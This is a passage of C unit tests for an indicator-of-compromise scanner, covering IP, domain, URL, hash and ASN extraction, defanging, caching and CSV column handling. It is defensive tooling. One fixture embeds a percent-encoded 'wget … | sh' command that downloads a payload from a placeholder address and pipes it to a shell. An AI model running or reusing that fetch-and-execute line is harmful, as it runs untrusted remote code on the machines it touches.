	ioc_scan(sc, text, strlen(text), 0, allowed_one, arg);
	assert_string_equal(out.data, "8.8.8.8+ 8.8.4.4- 10.1.2.3+ "
	    "10.0.0.0/8+ 172.16.0.0/12- www.partner.com+ evilpartner.com- "
	    "partner.com.evil.org- x@mail.partner.com+ "
	    "http://u@partner.com/x+ partner.com+ AS15169+ AS4134- "
	    "2001:db8::1+ 2001:db8::ab+ 2001:db8::2+ "
	    "http://[2001:db8::2]:80/+ 2001:db8::cd+ "
	    "http://[2001:db8::cd]/+ ::ffff:8.8.8.8+ 64:ff9b::808:808+ "
	    "64:ff9b:1::808:808- ::ffff:8.8.4.4- 64:ff9b::a01:203+ "
	    "http://[64:ff9b::a01:203]/+ 2002:808:808::1+ 2002:808:404::1- "
	    "d41d8cd98f00b204e9800998ecf8427e+ "
	    "0cc175b9c0f1b6a831c399e269772661- CVE-2021-44228+ "
	    "CVE-2021-44229- e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b"
	    "934ca495991b7852b855+ ");
	buf_release(&out);
	ioc_scanner_free(sc);
	ioc_allowlist_free(al);
}

static int
count_domains(const struct ioc *ioc, void *arg)
{
	if (strcmp(ioc_type_name(ioc->type), "domain") == 0)
		(*(size_t *)arg)++;
	return 0;
}

/* The scanner keeps what it decided per host name in a table that
 * starts at 256 slots and doubles up to 65,536 (32,768 names, then it
 * starts over): across every doubling and past the restart, and
 * scanning again with the cache full, every name is still found, and
 * the same ones. */
static void
test_name_cache_restarts(void **state)
{
	struct ioc_scanner *sc = ioc_scanner_new();
	struct buf text = BUF_INIT;
	size_t first = 0, again = 0, fresh = 0;
	int i;

	(void)state;
	for (i = 0; i < 40000; i++)
		buf_addf(&text, "seen host%d.example.com and host%d.example.com\n",
		    i, i);
	ioc_scan(sc, text.data, text.len, 0, count_domains, &first);
	ioc_scan(sc, text.data, text.len, 0, count_domains, &again);
	ioc_scanner_free(sc);
	sc = ioc_scanner_new();
	ioc_scan(sc, text.data, text.len, 0, count_domains, &fresh);
	ioc_scanner_free(sc);
	buf_release(&text);
	assert_int_equal(first, 80000);
	assert_int_equal(again, first);
	assert_int_equal(fresh, first);
}

static int
append_found(const struct ioc *ioc, void *arg)
{
	buf_addf(arg, "%s %s %zu\n", ioc_type_name(ioc->type), ioc->value,
	    ioc->offset);
	return 0;
}

/* A cached answer is the answer: names short enough to live in their
 * slot and longer ones, names whose normal form is the text itself,
 * upper case or Unicode ones whose form differs, names that are no
 * domains (a file name, an unknown suffix), the same name written after
 * a URL scheme (context) and bare: scanned twice by one scanner (the
 * second time every name from the cache), the findings are those of a
 * fresh scanner, value for value. */
static void
test_name_cache_answers(void **state)
{
	static const char *const names[] = {
		"a.example.com", "WWW.Example.COM", "b\xc3\xbc" "cher.example.de",
		"mail.really-quite-long-subdomain-name.example.co.uk",
		"MAIL.REALLY-QUITE-LONG-SUBDOMAIN-NAME.EXAMPLE.CO.UK",
		"setup.exe", "report.pdf", "host.invalidsuffix", "x.cn",
	};
	struct ioc_scanner *sc = ioc_scanner_new(), *fresh;
	struct buf text = BUF_INIT, a = BUF_INIT, b = BUF_INIT, c = BUF_INIT;
	size_t i;

	(void)state;
	for (i = 0; i < 400; i++) {
		const char *n = names[i % (sizeof(names) / sizeof(*names))];

		buf_addf(&text, "seen %s at hxxp://%s/x and n%zu.%s\n", n, n,
		    i % 7, n);
	}
	ioc_scan(sc, text.data, text.len, 0, append_found, &a);
	ioc_scan(sc, text.data, text.len, 0, append_found, &b);
	fresh = ioc_scanner_new();
	ioc_scan(fresh, text.data, text.len, 0, append_found, &c);
	assert_non_null(strstr(a.data, "domain www.example.com "));
	assert_non_null(strstr(a.data, "domain mail.really-quite-long-"
	    "subdomain-name.example.co.uk "));
	assert_non_null(strstr(a.data, "domain xn--bcher-kva.example.de "));
	assert_null(strstr(a.data, "setup.exe"));
	assert_null(strstr(a.data, "domain report.pdf"));
	assert_string_equal(b.data, a.data);
	assert_string_equal(c.data, a.data);
	ioc_scanner_free(sc);
	ioc_scanner_free(fresh);
	buf_release(&text);
	buf_release(&a);
	buf_release(&b);
	buf_release(&c);
}

/* The set of distinct indicators looks occurrences up a few behind (the
 * queue that lets it ask for their memory ahead): 100,000 occurrences of
 * 3,000 values, many repeated within the queue's length, give exactly
 * the entries, order, counts, first offsets, defanged marks and
 * allowlist marks of a plain reference; a value added last is found at
 * once, as is one added long ago, and one never added is not. */
#define SET_VALUES 3000
#define SET_OCCURRENCES 100000

struct set_ref {
	char value[32];
	enum ioc_type type;
	size_t count, first;
	int defanged, seen;
	size_t order;
};

static void
test_set_matches_reference(void **state)
{
	static struct set_ref ref[SET_VALUES];
	struct ioc_allowlist *al = ioc_allowlist_new();
	struct ioc_set *set = ioc_set_new();
	const struct ioc_entry *e;
	uint32_t x = 2463534242u;
	size_t i, k, norder = 0, order[SET_VALUES];
	enum ioc_type types[2];

	(void)state;
	types[0] = IOC_IPV4;
	types[1] = IOC_DOMAIN;
	assert_int_equal(ioc_allowlist_add(al, "allowed.example"), 0);
	for (k = 0; k < SET_VALUES; k++) {
		ref[k].type = types[k % 2];
		if (k % 2 == 0)
			snprintf(ref[k].value, sizeof(ref[k].value),
			    "198.51.%zu.%zu", k / 256, k % 256);
		else
			snprintf(ref[k].value, sizeof(ref[k].value),
			    "h%zu.%sexample", k, k % 7 ? "" : "allowed.");
	}
	for (i = 0; i < SET_OCCURRENCES; i++) {
		struct ioc oc;

		x ^= x << 13, x ^= x >> 17, x ^= x << 5;
		/* Half the time one of the last few values: repeats inside
		 * the queue. */
		k = (x & 1) ? (x >> 8) % SET_VALUES :
		    (i / 3 + (x >> 8) % 4) % SET_VALUES;
		oc = (struct ioc){ .type = ref[k].type, .value = ref[k].value,
		    .offset = 10 * i, .length = 5, .defanged = (x >> 4) % 5 == 0,
		    .class = IOC_PUBLIC };
		ioc_set_add(set, &oc, al);
		if (!ref[k].seen) {
			ref[k].seen = 1;
			ref[k].first = 10 * i;
			ref[k].order = norder;
			order[norder++] = k;
		}
		ref[k].count++;
		ref[k].defanged |= oc.defanged;
		if (i % 9973 == 0) {
			assert_true(ioc_set_contains(set, ref[k].type,
			    ref[k].value));
			assert_true(ioc_set_contains(set, ref[order[0]].type,
			    ref[order[0]].value));
			assert_false(ioc_set_contains(set, IOC_DOMAIN,
			    "never.example"));
		}
	}
	assert_int_equal(ioc_set_count(set), norder);
	for (i = 0; i < norder; i++) {
		const struct set_ref *r = &ref[order[i]];

		e = ioc_set_get(set, i);
		assert_non_null(e);
		assert_string_equal(e->value, r->value);
		assert_int_equal(e->type, r->type);
		assert_int_equal(e->count, r->count);
		assert_int_equal(e->first_offset, r->first);
		assert_int_equal(e->defanged, r->defanged);
		assert_int_equal(e->allowlisted, strstr(r->value, "allowed.")
		    != NULL);
	}
	assert_null(ioc_set_get(set, norder));
	ioc_set_free(set);
	ioc_allowlist_free(al);
}

/* The set through ioc_scan and ioc_set_add, and through ioc_scan_into
 * (which remembers tokens): each text in chunks, the same entries with
 * the same counts, first offsets and defanged flags. */
static int
add_one(const struct ioc *ioc, void *arg)
{
	ioc_set_add(arg, ioc, NULL);
	return 0;
}

/* The IPv6 range that takes the most blocks, now that a range stays in
 * one /32: 95 rising from 2001:db8::1, 95 falling to its end; the first
 * and the last of them its ends. */
static void
test_range6_blocks(void **state)
{
	static const char text[] = "2001:db8::1-"
	    "2001:db8:ffff:ffff:ffff:ffff:ffff:fffe";
	struct ioc_scanner *sc = ioc_scanner_new();
	struct ioc_set *set = ioc_set_new();
	size_t n;

	(void)state;
	ioc_scan(sc, text, strlen(text), 0, add_one, set);
	n = ioc_set_count(set);
	assert_int_equal(n, 190);
	assert_string_equal(ioc_set_get(set, 0)->value, "2001:db8::1");
	assert_string_equal(ioc_set_get(set, 1)->value, "2001:db8::2/127");
	assert_string_equal(ioc_set_get(set, 95)->value, "2001:db8:8000::/34");
	assert_string_equal(ioc_set_get(set, n - 1)->value,
	    "2001:db8:ffff:ffff:ffff:ffff:ffff:fffe");
	ioc_set_free(set);
	ioc_scanner_free(sc);
}

static void
assert_sets_equal(const char *what, struct ioc_set *a, struct ioc_set *b)
{
	const struct ioc_entry *x, *y;
	size_t i;

	if (ioc_set_count(a) != ioc_set_count(b))
		fail_msg("%s: %zu indicators, %zu remembering", what,
		    ioc_set_count(a), ioc_set_count(b));
	for (i = 0; (x = ioc_set_get(a, i)) != NULL; i++) {
		y = ioc_set_get(b, i);
		if (x->type != y->type || strcmp(x->value, y->value) != 0 ||
		    x->count != y->count || x->first_offset !=
		    y->first_offset || x->defanged != y->defanged)
			fail_msg("%s: %s %s x%zu at %zu%s, remembering %s %s "
			    "x%zu at %zu%s", what, ioc_type_name(x->type),
			    x->value, x->count, x->first_offset, x->defanged ?
			    " defanged" : "", ioc_type_name(y->type), y->value,
			    y->count, y->first_offset, y->defanged ?
			    " defanged" : "");
	}
}

/* Scan text both ways, in chunks of at most chunk bytes. */
static void
both_ways(const char *what, const char *text, size_t len, size_t chunk)
{
	struct ioc_scanner *sa = ioc_scanner_new(), *sb = ioc_scanner_new();
	struct ioc_set *a = ioc_set_new(), *b = ioc_set_new();
	size_t at, n;

	for (at = 0; at < len; at += n) {
		n = len - at < chunk ? len - at : chunk;
		ioc_scan(sa, text + at, n, at, add_one, a);
		ioc_scan_into(sb, text + at, n, at, b, NULL);
	}
	assert_sets_equal(what, a, b);
	ioc_set_free(a);
	ioc_set_free(b);
	ioc_scanner_free(sa);
	ioc_scanner_free(sb);
}

/* text scanned by new scanners both ways: through ioc_scan_into (the
 * memo) into *into, through ioc_scan and ioc_set_add into *cb. */
static void
scan_both(const char *text, size_t len, struct ioc_set **into,
    struct ioc_set **cb)
{
	struct ioc_scanner *sc;

	*into = ioc_set_new();
	*cb = ioc_set_new();
	sc = ioc_scanner_new();
	ioc_scan_into(sc, text, len, 0, *into, NULL);
	ioc_scanner_free(sc);
	sc = ioc_scanner_new();
	ioc_scan(sc, text, len, 0, add_one, *cb);
	ioc_scanner_free(sc);
}

/*
 * Tokens the memo must not answer for: the same bytes giving something
 * else where they stand. Each context is a line of its own; the lines,
 * scanned together (forwards, backwards, twice over), must give what
 * each gives scanned alone by a new scanner (which has nothing to
 * remember yet), with ioc_scan as with ioc_scan_into.
 */
static void
test_memo_contexts(void **state)
{
	static const char *const groups[] = {
		/* "version" before an address, or not */
		"1.2.3.4\nversion 1.2.3.4\nv1.2.3.4\nver=1.2.3.4\n"
		"x version: 198.51.100.9\n198.51.100.9\n",
		/* a MIME boundary's value is no hash */
		"boundary=0123456789abcdef0123456789abcdef\n"
		"0123456789abcdef0123456789abcdef\n"
		"boundary=\"0123456789abcdef0123456789abcdef\"\n",
		/* "AS" alone reads on, past its token */
		"AS hosts\nAS 4134\nASN 4134\nAS4134\nSUCH AS 200 HOSTS\n"
		"AS 64500\n.AS hosts\n.AS 4134\n",
		/* a token cut where a scheme starts: what follows it counts */
		"AS1ftp://192.0.2.1/x\nAS1\nCVE-2024-12345http://192.0.2.1/\n"
		"CVE-2024-12345\n",
		/* a file-like suffix is a host when defanged */
		"install.sh\ninstall[.]sh\nevil.sh\nevil[.]sh\n",
		/* a word it would continue: letters before a URL's scheme */
		"123http://evil.com.cn/a\nevil.com.cn/a\nx1.2.3.4\n1.2.3.4\n",
		/* long tokens: the value compared past the slot's bytes */
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n"
		"E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855\n"
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85\n"
		"a-rather-long-host-name-for-a-phishing-kit.login.example.com\n"
		"A-RATHER-LONG-HOST-NAME-FOR-A-PHISHING-KIT.LOGIN.EXAMPLE.COM\n",
		/* an address in a VERP local part, and alone */
		"list-bounces+alice=example.com@lists.example.org\n"
		"alice=example.com\nexample.com\n",
		/* keys and schemes before a value */
		"ip:192.0.2.1\n192.0.2.1\nsrc=192.0.2.1\n"
		"mailto:abuse@example.com\nabuse@example.com\n",
		/* a range and its first address */
		"198.51.100.10-198.51.100.20\n198.51.100.10\n"
		"198.51.100.10-20\n",
		/* a range with blanks around its dash, its addresses */
		"198.51.100.10 - 198.51.100.20\n198.51.100.10\n"
		"198.51.100.20 - 198.51.100.10\n198.51.100.20\n"
		"198.51.100.10 - 198.51.100.20\n",
		/* the same bytes refanged from other writings, or from none:
		 * a host or not, defanged or not, by where the rewrites are */
		"evil[.]com\nevil.com\nevil(.)com\nevil.com[.]\n"
		"report[.]py\nreport.py\nreport.p[y]\nwww.report.py\n"
		"user[.]id\nuser.id\nReport[.]Date\nReport.Date\n"
		"1.2.3[.]4\n1.2.3.4\nabuse[@]evil.org\nabuse@evil.org\n"
		"install.sh[.]\ninstall[.]sh.\n",
		/* URLs: the same bytes written otherwise, their hosts alone,
		 * trailing punctuation, user@, an IPv6 host, a range in
		 * brackets (wrapped links: test_memo_wrapped) */
		"hxxp://evil[.]com/a\nhttp://evil.com/a\nhttp://evil[.]com/a\n"
		"http://evil.com/a.\nhttp://evil.com/a)\n(http://evil.com/a)\n"
		"evil.com\nhttp://u@evil.com/a\nhttp://[2001:db8::7]/x\n"
		"2001:db8::7\nhttp://install.sh/x\ninstall.sh\n"
		"http://[2001:db8::1-2001:db8::3]/\nhttp://198.51.100.9:8080/\n",
		/* a name with a path and no scheme: where its URL ends
		 * depends on what follows the token ("=" cuts one) */
		"evil[.]com/a?b=1\nevil[.]com/a?b=2\nevil[.]com/a?b\n"
		"www.evil.com/a?x=1\nwww.evil.com/a?x\nevil.com/a?x=1\n"
		"evil.com/evil.net\nevil.com/evil.net=1\n"
		"www.evil.com/::\nwww.evil.com/::=1\n",
		/* a WHOIS record's contacts, and the same elsewhere */
		"Registrar URL: http://www.namecheap.com\n"
		"http://www.namecheap.com\nabuse-mailbox: a@isp-net.com\n"
		"a@isp-net.com\nRegistrar URL: http://www.namecheap.com\n"
		"abuse-mailbox: a@isp-net.com\n",
		/* a key's fingerprint, and a hash */
		"fpr: 7A3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1\n"
		"7A3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1\n"
		"Key fingerprint 7A3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1\n",
		/* Cisco ASA's address and port, and a network */
		"(203.0.113.9/25)\noutside:198.51.100.7/25 (203.0.113.9/25)\n"
		"(203.0.113.9/25)\ninside:10.0.0.6/22\n10.0.0.6/22\n",
		/* an address and port as tcpdump writes them, or an OID */
		"1.2.3.4.443\nIP 1.2.3.4.443 > 5.6.7.8.80: Flags [S]\n"
		"5.6.7.8.80\nIP6 2001:db8::1.443 > 2001:db8::2.80: UDP\n"
		"2001:db8::1.443 x\n1.2.3.4.443 > x\n",
		/* a file a checksum's line names, and a host */
		"Payload.app\nMD5 (Payload.app) = d41d8cd98f00b204e9800998ecf8"
		"427e\nd41d8cd98f00b204e9800998ecf8427e  Payload.app\n"
		"Payload.app\n",
		/* a name in code, and in prose */
		"{{person.name}}\nperson.name\n${person.name}\n"
		"person.name(\"x\")\nperson.name()\nperson.name(x)\n"
		"person.name != 1\nperson.name == 1\nperson.name = 1\n"
		"{ person.name }\nperson.name }}\n{{person.name|upper}}\n"
		"{{ person.name|upper }}\n",
	};
	struct ioc_scanner *sc;
	struct ioc_set *ref, *into, *cb;
	struct buf b = BUF_INIT;
	const char *p, *nl;
	size_t g, r, at;

	(void)state;
	for (g = 0; g < sizeof(groups) / sizeof(groups[0]); g++) {
		/* forwards, backwards, forwards */
		buf_reset(&b);
		for (r = 0; r < 3; r++) {
			if (r != 1) {
				buf_addstr(&b, groups[g]);
				continue;
			}
			/* each line ends in '\n': nl is one, p its start */
			for (nl = groups[g] + strlen(groups[g]) - 1;; nl = p - 1) {
				for (p = nl; p > groups[g] && p[-1] != '\n'; p--)
					;
				buf_add(&b, p, (size_t)(nl - p + 1));
				if (p == groups[g])
					break;
			}
		}
		ref = ioc_set_new();
		for (at = 0; at < b.len; at = (size_t)(nl - b.data) + 1) {
			nl = strchr(b.data + at, '\n');
			sc = ioc_scanner_new();
			ioc_scan(sc, b.data + at, (size_t)(nl - b.data) + 1 - at,
			    at, add_one, ref);
			ioc_scanner_free(sc);
		}
		scan_both(b.data, b.len, &into, &cb);
		assert_sets_equal(groups[g], ref, into);
		assert_sets_equal(groups[g], ref, cb);
		ioc_set_free(ref);
		ioc_set_free(into);
		ioc_set_free(cb);
	}
	buf_release(&b);
}

/* line read five times, with the memo and without (ioc_scan, whose
 * wrapped targets are read after the text too: the order is the whole
 * text's): the same, n indicators, each counted five times. */
static void
five_times(const char *what, const char *line, size_t n)
{
	struct ioc_set *into, *cb;
	struct buf b = BUF_INIT;
	size_t i;

	for (i = 0; i < 5; i++)
		buf_addstr(&b, line);
	scan_both(b.data, b.len, &into, &cb);
	assert_sets_equal(what, cb, into);
	assert_int_equal(ioc_set_count(into), n);
	for (i = 0; i < n; i++)
		assert_int_equal(ioc_set_get(into, i)->count, 5);
	ioc_set_free(into);
	ioc_set_free(cb);
	buf_release(&b);
}

/* A wrapped link read again and again: its target each time, as
 * without the memo. */
static void
test_memo_wrapped(void **state)
{
	(void)state;
	/* the wrapper's URL and host, the other URL and host, the
	 * target's URL and host */
	five_times("wrapped", "see https://nam02.safelinks.protection"
	    ".outlook.com/?url=http%3A%2F%2Fphish.example.com%2Flogin&data=x"
	    " and http://evil.com/a\n", 6);
}

/* ... and a link percent-encoded outside a URL, read after the scan,
 * is counted each time: its token is not remembered. */
static void
test_memo_encoded(void **state)
{
	(void)state;
	/* the URL, its address, the other address */
	five_times("encoded", "cmd=wget%20http%3A%2F%2F198.51.100.9"
	    "%2Fx86%20-O%20-%7Csh and 203.0.113.7\n", 3);
}

/* A token seen a thousand times is counted a thousand times, and where
 * it was first. */
static void
test_memo_counts(void **state)
{
	struct ioc_scanner *sc = ioc_scanner_new();
	struct ioc_set *set = ioc_set_new();
	const char *line = "host 198.51.100.7 at evil.com.cn, report.pdf "
	    "hxxp://login[.]evil.org/a?b=1.\n";
	static const char *const want[] = {
		"198.51.100.7", "evil.com.cn", "http://login.evil.org/a?b=1",
		"login.evil.org",
	};
	const struct ioc_entry *e;
	size_t i;

	(void)state;
	for (i = 0; i < 1000; i++)
		ioc_scan_into(sc, line, strlen(line), i * strlen(line), set,
		    NULL);
	assert_int_equal(ioc_set_count(set), 4);
	for (i = 0; i < 4; i++) {
		e = ioc_set_get(set, i);
		assert_string_equal(e->value, want[i]);
		assert_int_equal(e->count, 1000);
		assert_int_equal(e->defanged, i >= 2);
	}
	assert_int_equal(ioc_set_get(set, 0)->first_offset, 5);
	assert_int_equal(ioc_set_get(set, 2)->first_offset, 45);
	/* read in between and go on: counts kept once each */
	ioc_scan_into(sc, line, strlen(line), 0, set, NULL);
	for (i = 0; i < 4; i++)
		assert_int_equal(ioc_set_get(set, i)->count, 1001);
	ioc_set_free(set);
	ioc_scanner_free(sc);
}

/*
 * "ASN 4134" is remembered whole (the token and the number after its
 * blank): each occurrence counted once, at its own offset, and only
 * where the number ends the word ("ASN 4134x" is none); "AS 4134"
 * still asks the words before it each time.
 */
static void
test_memo_asn(void **state)
{
	struct ioc_scanner *sc = ioc_scanner_new();
	struct ioc_set *set = ioc_set_new();
	const char *line = "ASN 4134, ASN 4134x ASN 1.10 ASN 4134\n"
	    "SUCH AS 200 HOSTS; CN AS 4837 boundary=\"ASN 4134\"\n"
	    "AS13335. ASN: 4837\n";
	const struct ioc_entry *e;
	size_t i, len = strlen(line);

	(void)state;
	for (i = 0; i < 500; i++)
		ioc_scan_into(sc, line, len, i * len, set, NULL);
	assert_int_equal(ioc_set_count(set), 4);
	e = ioc_set_get(set, 0);
	assert_string_equal(e->value, "AS4134");
	assert_int_equal(e->count, 1000);	/* not the boundary's */
	assert_int_equal(e->first_offset, 0);
	e = ioc_set_get(set, 1);
	assert_string_equal(e->value, "AS65546");
	assert_int_equal(e->count, 500);
	assert_int_equal(e->first_offset, 20);
	e = ioc_set_get(set, 2);
	assert_string_equal(e->value, "AS4837");
	assert_int_equal(e->count, 1000);
	e = ioc_set_get(set, 3);
	assert_string_equal(e->value, "AS13335");
	assert_int_equal(e->count, 500);
	assert_int_equal(e->first_offset, 88);
	ioc_set_free(set);
	ioc_scanner_free(sc);
}

/* Append the file at path (of st_size bytes) to b. */
static void
read_into(struct buf *b, const char *path, const struct stat *st)
{
	FILE *f;

	if ((f = fopen(path, "rb")) == NULL)
		fail_msg("%s: cannot open", path);
	buf_grow(b, (size_t)st->st_size);
	b->len += fread(b->data + b->len, 1, (size_t)st->st_size, f);
	b->data[b->len] = '\0';
	fclose(f);
}

/* Every file of tests/data (its corpus too), both ways. */
static int
file_both_ways(const char *path, const struct stat *st, int flag,
    struct FTW *ftw)
{
	struct buf b = BUF_INIT;

	(void)ftw;
	if (flag != FTW_F || st->st_size > 4 * 1024 * 1024)
		return 0;
	read_into(&b, path, st);
	both_ways(path, b.data, b.len, 65536);
	buf_release(&b);
	return 0;
}

static void
test_memo_corpus(void **state)
{
	(void)state;
	assert_int_equal(nftw(TEST_DATA, file_both_ways, 16, FTW_PHYS), 0);
}

/* Every file of tests/data (its corpus too) after the other. */
static struct buf all = BUF_INIT;

static int
gather(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)ftw;
	if (flag == FTW_F && st->st_size <= 4 * 1024 * 1024) {
		read_into(&all, path, st);
		buf_addch(&all, '\n');
	}
	return 0;
}

/* ioc_pool_each's or ioc_sets_each's entries, compared with one
 * scanner's set in turn. */
struct against {
	struct ioc_set *one;
	size_t i;
};

static int
same_entry(const struct ioc_entry *y, void *arg)
{
	struct against *ag = arg;
	const struct ioc_entry *x = ioc_set_get(ag->one, ag->i++);

	if (x == NULL)
		fail_msg("the workers give more: %s %s", ioc_type_name(y->type),
		    y->value);
	if (x->type != y->type || strcmp(x->value, y->value) != 0 ||
	    x->count != y->count || x->first_offset != y->first_offset ||
	    x->defanged != y->defanged || x->class != y->class ||
	    x->allowlisted != y->allowlisted)
		fail_msg("entry %zu: %s %s x%zu at %zu%s%s, the workers' %s %s "
		    "x%zu at %zu%s%s", ag->i - 1, ioc_type_name(x->type),
		    x->value, x->count, x->first_offset, x->defanged ?
		    " defanged" : "", x->allowlisted ? " allowlisted" : "",
		    ioc_type_name(y->type), y->value, y->count,
		    y->first_offset, y->defanged ? " defanged" : "",
		    y->allowlisted ? " allowlisted" : "");
	return 0;
}

static int
stop_at_three(const struct ioc_entry *y, void *arg)
{
	(void)y;
	return ++*(size_t *)arg == 3 ? 7 : 0;
}

/*
 * Two sets read as one without threads, parts handed to them in a fixed
 * order (the pool's order depends on which worker is free): an
 * indicator plain in one part and defanged in another is defanged,
 * counted in both, and reported where it came first, whichever set
 * read that part; what only a later part has comes after.
 */
static void
test_sets_each(void **state)
{
	static const char *const text[] = {
		"evil.example.com 192.0.2.1\n",
		"evil[.]example[.]com 198.51.100.7\n",
		"192.0.2.1 evil.example.com 198.51.100.7\n",
		"hxxp://late.example.net/x 192.0.2.1\n",
		"evil.example.com 198.51.100.7\n",	/* read afterwards */
	};
	struct ioc_scanner *sc = ioc_scanner_new();
	struct ioc_set *one = ioc_set_new(), *sets[2];
	struct ioc_part parts[5];
	struct against ag = { one, 0 };
	size_t k, at = 0, len, round;

	(void)state;
	for (round = 0; round < 2; round++) {	/* then with sets swapped */
		sets[0] = ioc_set_new();
		sets[1] = ioc_set_new();
		for (k = 0, at = 0; k < 4; k++, at += len) {
			len = strlen(text[k]);
			if (round == 0)
				ioc_scan_into(sc, text[k], len, at, one, NULL);
			parts[k].set = (k + round) % 2;
			parts[k].from = ioc_set_mark(sets[parts[k].set]);
			ioc_scan_into(sc, text[k], len, at,
			    sets[parts[k].set], NULL);
			parts[k].to = ioc_set_mark(sets[parts[k].set]);
		}
		ag.i = 0;
		assert_int_equal(ioc_sets_each(sets, 2, parts, 4, same_entry,
		    &ag), 0);
		assert_int_equal(ag.i, ioc_set_count(one));
		ioc_set_free(sets[0]);
		ioc_set_free(sets[1]);
	}
	assert_int_equal(ioc_set_count(one), 5);
	assert_true(ioc_set_get(one, 0)->defanged);	/* evil.example.com */
	assert_int_equal(ioc_set_get(one, 0)->count, 3);

	/* Sets read as one, then one read to again (occurrences only, no
	 * new entry; of one the other reports too) and read as one again:
	 * what the first reading found (ioc_sets_join) is found again for
	 * every set, not reused. */
	ioc_scan_into(sc, text[4], strlen(text[4]), at, one, NULL);
	sets[0] = ioc_set_new();
	sets[1] = ioc_set_new();
	for (k = 0, at = 0; k < 5; k++, at += len) {
		if (k == 4)
			assert_int_equal(ioc_sets_each(sets, 2, parts, 4,
			    stop_at_three, &(size_t){ 0 }), 7);
		len = strlen(text[k]);
		parts[k].set = k % 2;
		parts[k].from = ioc_set_mark(sets[k % 2]);
		ioc_scan_into(sc, text[k], len, at, sets[k % 2], NULL);
		parts[k].to = ioc_set_mark(sets[k % 2]);
	}
	ag.i = 0;
	assert_int_equal(ioc_sets_each(sets, 2, parts, 5, same_entry, &ag), 0);
	assert_int_equal(ag.i, 5);
	assert_int_equal(ioc_set_get(one, 0)->count, 4);
	ioc_set_free(sets[0]);
	ioc_set_free(sets[1]);
	ioc_set_free(one);
	ioc_scanner_free(sc);
}

static int
collect_at(const struct ioc *ioc, void *arg)
{
	struct found *f = arg;

	buf_addf(&f->all, "%s %s %zu %zu\n", ioc_type_name(ioc->type),
	    ioc->value, ioc->offset, ioc->length);
	return 0;
}

static int
entry_line(const struct ioc_entry *e, void *arg)
{
	buf_addf(arg, "%s %s %zu\n", ioc_type_name(e->type), e->value,
	    e->count);
	return 0;
}

/* text scanned as the CSV report its first line heads: every
 * occurrence with its offset and length (ioc_scan), then "|" and what
 * ioc_scan_into's set holds (the memo's answers asked again by
 * column), read in parts of a line each by another scanner. */
static char *
scan_columns(const char *text)
{
	struct ioc_columns cols = { NULL, 0, ',' };
	struct ioc_scanner *sc = ioc_scanner_new();
	struct ioc_set *set = ioc_set_new(), *sets[1] = { set };
	struct found f = { BUF_INIT };
	unsigned char *kinds;
	struct ioc_part part;
	size_t n = strlen(text), at, k;

	assert_int_equal(csvreport_columns(text, n, &kinds, &cols.n,
	    &cols.sep), 0);
	cols.kinds = kinds;
	ioc_scanner_columns(sc, &cols);
	ioc_scan(sc, text, n, 0, collect_at, &f);
	ioc_scanner_free(sc);
	buf_addstr(&f.all, "|\n");
	sc = ioc_scanner_new();
	ioc_scanner_columns(sc, &cols);
	part.set = 0;
	part.from = ioc_set_mark(set);
	for (at = 0; at < n; at += k) {
		k = strcspn(text + at, "\n");
		k += text[at + k] == '\n';
		ioc_scan_into(sc, text + at, k, at, set, NULL);
	}
	part.to = ioc_set_mark(set);
	ioc_sets_each(sets, 1, &part, 1, entry_line, &f.all);
	ioc_scanner_free(sc);
	ioc_set_free(set);
	free(kinds);
	return buf_detach(&f.all, NULL);
}

/* A CSV report read by column: a version's cells give no address (each
 * here named APNIC's, Level 3's or the DoD's network), a host's are
 * hosts' names under .pl and .cc too, the same name in another column
 * is none; quoted cells with the separator in them, CRLF, a short row
 * and a long one's cell past the header (text); a line whose quote
 * breaks off and a record on two lines stay text. The offsets are the
 * text's. */
static void
test_columns(void **state)
{
	const char *text =
	    "timestamp,ip,port,hostname,tag,version,sector\n"
	    "\"2026-11-24 00:12:33\",\"203.0.113.14\",11211,\"host-14.evil-"
	    "isp.pl\",\"router.evil-isp.pl\",\"1.5.6.1\",\"Communications\"\n"
	    "2026-11-24 00:12:35,198.51.100.77,11211,cpe-77.evil-isp.cc,"
	    "\"memcached, udp\",1.4.25.0,\r\n"
	    "2026-11-24 00:12:36,198.51.100.78,11211,router.evil-isp.pl\n"
	    "2026-11-24 00:12:37,198.51.100.79,22,,ssh,2.1.0.9,x,3.1.2.4\n"
	    "\"2026-11-24 00:12:38,198.51.100.80,22,,ssh,2.1.0.10\n"
	    "2026-11-24 00:12:39,198.51.100.81,22,,\"two\nlines\",2.1.0.11\n";
	char *got;

	(void)state;
	got = scan_columns(text);
	assert_string_equal(got,
	    "ipv4 203.0.113.14 69 12\n"
	    "domain host-14.evil-isp.pl 90 19\n"
	    "ipv4 198.51.100.77 179 13\n"
	    "domain cpe-77.evil-isp.cc 199 18\n"
	    "ipv4 198.51.100.78 266 13\n"
	    "domain router.evil-isp.pl 286 18\n"
	    "ipv4 198.51.100.79 325 13\n"
	    "ipv4 3.1.2.4 357 7\n"
	    "ipv4 198.51.100.80 386 13\n"
	    "ipv4 2.1.0.10 408 8\n"
	    "ipv4 198.51.100.81 437 13\n"
	    "ipv4 2.1.0.11 467 8\n"
	    "|\n"
	    "ipv4 203.0.113.14 1\n"
	    "domain host-14.evil-isp.pl 1\n"
	    "ipv4 198.51.100.77 1\n"
	    "domain cpe-77.evil-isp.cc 1\n"
	    "ipv4 198.51.100.78 1\n"
	    "domain router.evil-isp.pl 1\n"
	    "ipv4 198.51.100.79 1\n"
	    "ipv4 3.1.2.4 1\n"
	    "ipv4 198.51.100.80 1\n"
	    "ipv4 2.1.0.10 1\n"
	    "ipv4 198.51.100.81 1\n"
	    "ipv4 2.1.0.11 1\n");
	free(got);
	/* as text: the versions' addresses, no host under .pl or .cc */
	got = scan("198.51.100.77,cpe-77.evil-isp.cc,1.4.25.0");
	assert_string_equal(got, "ipv4 198.51.100.77 documentation\n"
	    "ipv4 1.4.25.0 public\n");
	free(got);
	/* semicolons, a tab, a host's column first */
	got = scan_columns("\"Source IP\";\"Firmware\"\n198.51.100.7;"
	    "\"2.1.0.7\"\n");
	assert_string_equal(got, "ipv4 198.51.100.7 23 12\n|\n"
